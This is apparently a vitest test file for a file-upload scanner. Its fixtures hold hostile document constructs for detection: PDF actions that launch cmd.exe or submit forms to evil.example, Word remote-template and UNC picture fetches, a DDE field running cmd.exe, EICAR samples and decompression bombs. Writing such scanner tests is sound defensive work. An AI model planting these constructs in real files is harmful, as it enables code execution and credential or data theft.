import { describe, expect, it } from 'vitest';
import {
  compressedStream,
  docm,
  docx,
  eicar,
  heic,
  jpeg,
  pdf,
  pdfWithPage,
  png,
  xlsx,
  zip,
} from '../../../../../../test/fixtures/sample-files.ts';
import { drawPdf, writeText } from '../../../platform/pdf/pdf.ts';
import { builtInScanner } from './built-in-scanner.ts';
import { inspectFile } from './inspect.ts';
import type { ScanResult } from './scanner.ts';

const [pdfType, word, sheet] = [
  'application/pdf',
  'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
];
const external = (type: string, target: string): string =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const libraryPdf = await drawPdf(
  'Invoice',
  new Date(0),
  (page) => void writeText(page, 'Invoice', { x: 50, y: 50, width: 99 }),
);
const bomb = 'a'.repeat(80 * 1024 * 1024);

const corpus: readonly (readonly [string, ScanResult, string, Buffer])[] = [
  ['a PDF', 'clean', pdfType, pdf()],
  ['a PDF as our own library draws it', 'clean', pdfType, libraryPdf],
  ['a PDF with a link', 'clean', pdfType, pdf('<< /S /URI /URI (https://shop.example) >>')],
  ['a PDF that opens at a page', 'clean', pdfType, pdf('<< /OpenAction [3 0 R /Fit] >>')],
  ['a PDF with packed objects', 'clean', pdfType, pdf(compressedStream('/Type /ObjStm /N 1', '<< /Title (JS) >>'))],
  [
    'a PDF with a packed text that speaks of /JavaScript',
    'clean',
    pdfType,
    pdf(compressedStream('', '(/JavaScript) Tj')),
  ],
  ['a JPEG', 'clean', 'image/jpeg', jpeg()],
  ['a PNG', 'clean', 'image/png', png()],
  ['a HEIC', 'clean', 'image/heic', heic()],
  ['a Word file', 'clean', word, docx()],
  [
    'a Word file with a link',
    'clean',
    word,
    docx({ 'word/_rels/document.xml.rels': external('hyperlink', 'https://shop.example') }),
  ],
  ['an Excel file', 'clean', sheet, xlsx()],
  [
    'an Excel file with settings of a printer',
    'clean',
    sheet,
    xlsx({ 'xl/printerSettings/printerSettings1.bin': 'x' }),
  ],

  ['the test file of scanners', 'virus', 'text/plain', Buffer.from(eicar)],
  ['the same inside a PDF', 'virus', pdfType, pdf(`<< >>\nstream\n${eicar}\nendstream`)],
  ['the same packed inside a PDF', 'virus', pdfType, pdf(compressedStream('', eicar))],
  ['the same inside a Word file', 'virus', word, docx({ 'word/media/image1.png': eicar })],
  ['the same behind a picture', 'virus', 'image/png', png(eicar)],

  ['a PDF with a script', 'active_content', pdfType, pdf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')],
  ['a PDF whose script is spelled in numbers', 'active_content', pdfType, pdf('<< /S /J#61vaScr#69pt >>')],
  [
    'a PDF whose script is packed',
    'active_content',
    pdfType,
    pdf(compressedStream('/Type /ObjStm /N 1', '<< /S /JavaScript >>')),
  ],
  [
    'a PDF whose packed script is spelled in numbers',
    'active_content',
    pdfType,
    pdf(compressedStream('/Type /Obj#53tm', '<< /#4aS (x) >>')),
  ],
  ['a PDF that starts a program', 'active_content', pdfType, pdf('<< /S /Launch /F (cmd.exe) >>')],
  ['a PDF that carries a file', 'active_content', pdfType, pdf('<< /Names << /EmbeddedFiles 9 0 R >> >>')],
  ['a PDF that sends a form', 'active_content', pdfType, pdf('<< /S /SubmitForm /F (https://evil.example) >>')],
  ['a PDF with a form of XFA', 'active_content', pdfType, pdf('<< /AcroForm << /XFA 9 0 R >> >>')],
  ['a PDF with moving pictures', 'active_content', pdfType, pdf('<< /Subtype /RichMedia >>')],
  [
    'a Word file that carries macros under a harmless list',
    'active_content',
    word,
    docx({ 'word/vbaProject.bin': 'x' }),
  ],
  ['a Word file with an object in it', 'active_content', word, docx({ 'word/embeddings/oleObject1.bin': 'x' })],
  ['a Word file with a control', 'active_content', word, docx({ 'word/activeX/activeX1.xml': '<x/>' })],
  [
    'a Word file that fetches a template',
    'active_content',
    word,
    docx({ 'word/_rels/settings.xml.rels': external('attachedTemplate', 'https://evil.example/a.dotm') }),
  ],
  [
    'a Word file that fetches a picture',
    'active_content',
    word,
    docx({ 'word/_rels/document.xml.rels': external('image', '\\\\evil.example\\share\\a.png') }),
  ],
  ['a Word file that runs a field', 'active_content', word, docx({}, 'DDE</w:t><w:t>AUTO c:\\\\windows\\\\cmd.exe')],
  ['an Excel file with old macros', 'active_content', sheet, xlsx({ 'xl/macrosheets/sheet1.xml': '<x/>' })],
  [
    'an Excel file that asks another one',
    'active_content',
    sheet,
    xlsx({ 'xl/externalLinks/externalLink1.xml': '<x/>' }),
  ],
  ['an Excel file with a program', 'active_content', sheet, xlsx({ 'xl/media/run.exe': 'MZ' })],

  ['a PDF with an empty page', 'blank', pdfType, pdfWithPage('')],
  ['a locked PDF', 'locked', pdfType, pdf('<< /Encrypt 9 0 R >>')],
  [
    'a PDF that hides its objects from readers',
    'not_checkable',
    pdfType,
    pdf('<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nxx\nendstream'),
  ],
  [
    'a PDF that hides them twice',
    'not_checkable',
    pdfType,
    pdf(compressedStream('/Type /ObjStm /Filter [/ASCIIHexDecode]', 'xx')),
  ],
  [
    'a PDF whose objects are damaged',
    'not_checkable',
    pdfType,
    pdf('<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nxx\nendstream'),
  ],
  ['a PDF that unpacks to far too much', 'not_checkable', pdfType, pdf(compressedStream('', bomb))],
  ['a Word file that unpacks to far too much', 'not_checkable', word, docx({ 'word/a.xml': bomb, 'word/b.xml': bomb })],
  ['a Word file whose list is gone', 'not_checkable', word, docx().subarray(0, -40)],

  [
    'a program called PDF',
    'other_type',
    pdfType,
    Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'),
  ],
  ['a page called picture', 'other_type', 'image/png', Buffer.from('<!doctype html><script>alert(1)</script>')],
  [
    'a drawing with a script called picture',
    'other_type',
    'image/png',
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'),
  ],
  ['an archive called Word', 'other_type', word, zip({ 'a.txt': 'x' })],
  ['a Word file with macros called Word', 'other_type', word, docm()],
  ['a Word file called PDF', 'other_type', pdfType, docx()],
  ['nothing', 'other_type', pdfType, Buffer.alloc(0)],
];

describe('the built-in scanner', () => {
  it.each(corpus)('inspects %s with the result: %s', async (_, finding, mediaType, bytes) => {
    expect(await inspectFile({ mediaType, bytes })).toBe(finding);
  });

  it('returns the same result from a worker thread', async () => {
    expect(await builtInScanner({ customerId: 'one', mediaType: pdfType, bytes: pdf() })).toBe('clean');
    expect(await builtInScanner({ customerId: 'one', mediaType: pdfType, bytes: pdf('<< /S /Launch >>') })).toBe(
      'active_content',
    );
  });
});
